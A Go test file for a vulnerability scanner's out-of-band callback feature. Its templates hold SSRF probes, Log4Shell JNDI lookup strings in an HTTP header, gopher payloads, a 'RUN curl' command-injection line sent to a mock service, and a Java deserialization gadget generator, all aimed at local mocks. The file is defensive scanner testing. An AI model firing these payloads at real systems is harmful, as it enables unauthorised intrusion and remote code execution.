package template

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"github.com/vedette/vedette/internal/engine/collaborator"
	"github.com/vedette/vedette/internal/engine/template/dsl"
)

const testGrace = 3 * time.Second

func collaborating(t *testing.T, how string) *collaborator.Server {
	t.Helper()
	c, err := collaborator.ParseConfig(how)
	if err != nil {
		t.Fatal(err)
	}
	s, err := collaborator.Listen(t.Context(), c)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Close)
	return s
}

// resolver asks the collaborator for names, as the servers of the target would in the end.
func resolver(s *collaborator.Server) *net.Resolver {
	at := net.JoinHostPort("127.0.0.1", fmt.Sprint(s.Config().DNS))
	return &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, network, _ string) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, network, at)
	}}
}

// browser fetches URLs as a careless application does; names lead to the collaborator's own port.
func browser(s *collaborator.Server) *http.Client {
	return &http.Client{Transport: &http.Transport{DisableKeepAlives: true, DialContext: func(ctx context.Context, network, at string) (net.Conn, error) {
		if host, _, _ := net.SplitHostPort(at); net.ParseIP(host) == nil {
			found, err := resolver(s).LookupHost(ctx, host)
			if err != nil {
				return nil, err
			}
			at = net.JoinHostPort(found[0], fmt.Sprint(s.Config().Ports[0]))
		}
		return new(net.Dialer).DialContext(ctx, network, at)
	}}}
}

var lookup = regexp.MustCompile(`\$\{jndi:ldap://([^/}]+)/([^}]*)\}`)

// logger looks up what is in the header, as a log of Java did.
func logger(s *collaborator.Server, header string) {
	m := lookup.FindStringSubmatch(strings.ReplaceAll(header, "${hostName}", "app-7"))
	if m == nil {
		return
	}
	at, dn := m[1], m[2]
	if !strings.Contains(at, ":") {
		if _, err := resolver(s).LookupHost(context.Background(), at); err != nil {
			return
		}
		at = net.JoinHostPort("127.0.0.1", fmt.Sprint(s.Config().Ports[0]))
	}
	conn, err := net.Dial("tcp", at)
	if err != nil {
		return
	}
	defer conn.Close()
	_, _ = conn.Write([]byte{0x30, 12, 2, 1, 1, 0x60, 7, 2, 1, 3, 4, 0, 0x80, 0})
	_, _ = conn.Read(make([]byte, 64))
	search := append([]byte{4, byte(len(dn))}, dn...)
	search = append([]byte{2, 1, 2, 0x63, byte(len(search))}, search...)
	_, _ = conn.Write(append([]byte{0x30, byte(len(search))}, search...))
	_, _ = conn.Read(make([]byte, 64))
}

func TestCallbacks(t *testing.T) {
	t.Parallel()
	zone, address := "127.0.0.1,zone=oob.example.org,dns=0,ports=0", "127.0.0.1"
	ssrf := "http:\n- path: ['{{BaseURL}}/fetch?url=http://{{interactsh-url}}/x']\n  matchers-condition: and\n  matchers:\n  - {type: word, part: interactsh_protocol, words: [%s]}\n  - {type: status, status: [200]}\n"
	log4j := "http:\n- raw: [\"GET /%s HTTP/1.1\\nHost: {{Hostname}}\\nX-Api-Version: ${jndi:ldap://%s{{interactsh-url}}/a}\\n\"]\n" +
		"  matchers:\n  - {type: word, part: interactsh_protocol, words: [%s]}\n"
	for name, tc := range map[string]struct {
		how, body string
		found     string // in the evidence; empty: nothing is found
	}{
		"a page is fetched":               {zone, fmt.Sprintf(ssrf, "http"), "Called back: http from 127.0.0.1"},
		"a page is fetched by address":    {address, fmt.Sprintf(ssrf, "http"), "Called back: http from 127.0.0.1"},
		"a name is looked up":             {zone, fmt.Sprintf(ssrf, "dns"), "Called back: dns from 127.0.0.1"},
		"an address stands for a lookup":  {address, fmt.Sprintf(ssrf, "dns"), "Called back: http from 127.0.0.1"},
		"another protocol":                {zone, fmt.Sprintf(ssrf, "smtp"), ""},
		"another condition does not hold": {zone, strings.Replace(fmt.Sprintf(ssrf, "http"), "[200]", "[201]", 1), ""},
		"nobody calls":                    {zone, strings.Replace(fmt.Sprintf(ssrf, "http"), "/fetch", "/other", 1), ""},
		"the request is read": {zone, "http:\n- path: ['{{BaseURL}}/fetch?url=http://{{interactsh-url}}/x']\n  matchers:\n  - {type: dsl, dsl: ['contains(interactsh_protocol, \"http\") && contains(interactsh_request, \"User-Agent: Go\") && contains(interactsh_ip, \"127.\")']}\n",
			"User-Agent: Go"},
		"a later request": {zone, "http:\n- raw: [\"GET / HTTP/1.1\\nHost: {{Hostname}}\\n\", \"GET /fetch?url=http://{{interactsh-url}} HTTP/1.1\\nHost: {{Hostname}}\\n\"]\n  matchers:\n  - {type: dsl, dsl: ['contains(interactsh_protocol_2, \"http\") && status_code_1 == 200']}\n",
			"Called back: http"},
		"a variable": {zone, "variables: {u: 'http://{{interactsh-url}}/'}\nhttp:\n- raw: [\"GET /?{{u}} HTTP/1.1\\nHost: {{Hostname}}\\n\", \"GET /fetch?url={{u}} HTTP/1.1\\nHost: {{Hostname}}\\n\"]\n  matchers:\n  - {type: word, part: interactsh_protocol, words: [http]}\n",
			"Called back: http"},
		"payloads": {zone, "http:\n- path: ['{{BaseURL}}/fetch?url={{p}}']\n  payloads: {p: ['gopher://{{interactsh-url}}', 'http://{{interactsh-url}}']}\n  matchers:\n  - {type: word, part: interactsh_protocol, words: [http]}\n",
			"Called back: http"},
		"a flow": {zone, "flow: http(1) && http(2)\n" + fmt.Sprintf(ssrf, "http") + "- path: ['{{BaseURL}}/']\n  matchers:\n  - {type: word, words: [home]}\n", "home"},
		"a log, at once": {zone, fmt.Sprintf(log4j, "", "${hostName}.", "dns") + "  extractors:\n  - {type: regex, part: interactsh_request, group: 1, regex: ['([a-z0-9-]+)\\.vd[a-z0-9]+\\.oob']}\n",
			"Extracted: app-7"},
		"a log, by address":          {address, fmt.Sprintf(log4j, "", "", "ldap"), "Called back: ldap from 127.0.0.1"},
		"a log, when all is over":    {address, fmt.Sprintf(log4j, "late", "", "ldap"), "Called back: ldap from 127.0.0.1"},
		"a log, and the server ends": {address, fmt.Sprintf(log4j, "hangup", "", "ldap"), "Called back: ldap from 127.0.0.1"},
		"a log, too late":            {address, fmt.Sprintf(log4j, "never", "", "ldap"), ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := collaborating(t, tc.how)
			var work sync.WaitGroup
			defer work.Wait()
			over := make(chan struct{})
			serve := func(w http.ResponseWriter, r *http.Request) {
				switch header := r.Header.Get("X-Api-Version"); r.URL.Path {
				case "/fetch":
					target, _ := url.QueryUnescape(strings.TrimPrefix(r.URL.RawQuery, "url="))
					if got, err := browser(s).Get(target); err == nil {
						got.Body.Close()
					}
				case "/late":
					work.Go(func() { <-over; logger(s, header) })
				case "/hangup":
					logger(s, header)
					panic(http.ErrAbortHandler)
				case "/never":
				default:
					logger(s, header)
				}
				_, _ = io.WriteString(w, "home")
			}
			calls := NewCallbacks(s)
			found, asked := serveTo(t, tc.body, serve, Options{Callbacks: calls})
			close(over)
			found = append(found, calls.Findings(t.Context(), testGrace)...)
			if len(found) > 1 || (len(found) > 0) != (tc.found != "") {
				t.Fatalf("%d findings, asked %v", len(found), asked)
			}
			if tc.found != "" && !strings.Contains(found[0].Evidence.Detail, tc.found) {
				t.Errorf("evidence %q", found[0].Evidence.Detail)
			}
		})
	}
}

// TestCallbackIsAttributed gives each finding to the host, template and request that caused it, although all call back
// at once and late.
func TestCallbackIsAttributed(t *testing.T) {
	t.Parallel()
	s := collaborating(t, "127.0.0.1")
	files := fstest.MapFS{}
	for i := range 4 {
		body := fmt.Sprintf("id: t%d\ninfo: {name: T, severity: high, tags: x}\nhttp:\n- path: ['{{BaseURL}}/%d/a?{{interactsh-url}}', '{{BaseURL}}/%d/b?{{interactsh-url}}']\n  matchers:\n  - {type: word, part: interactsh_protocol, words: [http]}\n", i, i, i)
		files[fmt.Sprintf("t%d.yaml", i)] = &fstest.MapFile{Data: []byte(body)}
	}
	set, _, err := Load(files)
	if err != nil {
		t.Fatal(err)
	}
	var lock sync.Mutex
	var call []string
	target := func() *httptest.Server {
		return httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
			lock.Lock()
			defer lock.Unlock()
			call = append(call, r.URL.Path+" "+r.URL.RawQuery)
		}))
	}
	calls := NewCallbacks(s)
	ports := map[uint16]bool{}
	for range 2 {
		server := target()
		defer server.Close()
		n, to := local(server.Listener.Addr().String(), "http")
		ports[to.Service.Port] = true
		if found := set.Run(t.Context(), n, to, Options{Callbacks: calls}); len(found) > 0 {
			t.Fatalf("found before anybody called: %+v", found)
		}
	}
	for _, c := range call {
		if path, at, _ := strings.Cut(c, " "); path == "/1/b" || path == "/3/a" {
			r, err := browser(s).Get("http://" + at)
			if err != nil {
				t.Fatal(err)
			}
			r.Body.Close()
		}
	}
	var got []string
	for _, f := range calls.Findings(t.Context(), testGrace) {
		path, _, _ := strings.Cut(f.Path, "?")
		got = append(got, f.Check+path)
		if !ports[f.Port] || !strings.Contains(f.Evidence.Request, "GET "+path) {
			t.Errorf("%+v", f)
		}
	}
	if len(got) != 4 || strings.Count(strings.Join(got, " "), "t1/1/b") != 2 || strings.Count(strings.Join(got, " "), "t3/3/a") != 2 {
		t.Errorf("found %v", got)
	}
}

// TestCallbackOverTCP is a service that runs what it is sent.
func TestCallbackOverTCP(t *testing.T) {
	t.Parallel()
	s := collaborating(t, "127.0.0.1")
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		conn, err := l.Accept()
		if err != nil {
			return
		}
		defer conn.Close()
		b := make([]byte, 1024)
		n, _ := conn.Read(b)
		if r, err := browser(s).Get(strings.TrimSpace(strings.TrimPrefix(string(b[:n]), "RUN curl "))); err == nil {
			r.Body.Close()
		}
	}()
	n, to := local(l.Addr().String(), "runner")
	body := fmt.Sprintf("tcp:\n- host: ['{{Host}}:%d']\n  inputs: [{data: \"RUN curl http://{{interactsh-url}}\\n\"}]\n  matchers:\n  - {type: word, part: interactsh_protocol, words: [http]}\n", to.Service.Port)
	calls := NewCallbacks(s)
	found := append(load(t, body).Run(t.Context(), n, to, Options{Callbacks: calls}), calls.Findings(t.Context(), testGrace)...)
	if len(found) != 1 || !strings.Contains(found[0].Evidence.Request, "RUN curl") {
		t.Errorf("%+v", found)
	}
}

func TestCallbackEndsWithTheScan(t *testing.T) {
	t.Parallel()
	s := collaborating(t, "127.0.0.1")
	calls := NewCallbacks(s)
	ctx, cancel := context.WithCancel(t.Context())
	body := "http:\n- path: ['{{BaseURL}}/?{{interactsh-url}}']\n  matchers:\n  - {type: word, part: interactsh_protocol, words: [http]}\n"
	if found, _ := serveTo(t, body, only("/", "x"), Options{Callbacks: calls}); len(found) > 0 {
		t.Fatal(found)
	}
	cancel()
	if found := calls.Findings(ctx, time.Hour); len(found) > 0 || len(calls.waiting) > 0 {
		t.Errorf("%v", found)
	}
	if NewCallbacks(nil).Findings(ctx, time.Hour) != nil {
		t.Error("found without a collaborator")
	}
}

// TestGadget has the known form of the object; that Java reads it was tried by hand.
func TestGadget(t *testing.T) {
	t.Parallel()
	for encoding, decode := range map[string]func(string) ([]byte, error){
		"hex": hex.DecodeString, "base64": base64.StdEncoding.DecodeString, "raw": func(s string) ([]byte, error) { return []byte(s), nil },
	} {
		m, err := dsl.CompileText("{{generate_java_gadget('dns', 'http://a.example', '" + encoding + "')}}")
		if err != nil {
			t.Fatal(err)
		}
		text, err := m.Render(dsl.Map{})
		b, decoded := decode(text)
		if err != nil || decoded != nil || !strings.HasPrefix(string(b), "\xac\xed\x00\x05sr\x00\x11java.util.HashMap") || !strings.HasSuffix(string(b), "t\x00\x10http://a.examplex") {
			t.Errorf("%s: %q %v", encoding, b, err)
		}
	}
}
